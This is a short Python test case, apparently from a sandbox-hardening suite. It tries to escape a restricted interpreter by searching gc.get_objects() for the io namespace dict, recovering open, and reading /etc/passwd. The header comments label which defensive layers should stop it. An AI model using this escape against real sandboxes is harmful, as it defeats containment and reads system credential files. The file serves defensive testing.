# tries: import of gc
# class: import
# stops: 1 2 3 4
def use(opener):
    print("REACHED")
    if "root:" in opener("/etc/passwd").read():
        print("ESCAPED")


import gc

use(lambda path: [o for o in gc.get_objects() if type(o) is dict and "open_code" in o and "open" in o][0]["open"](path))
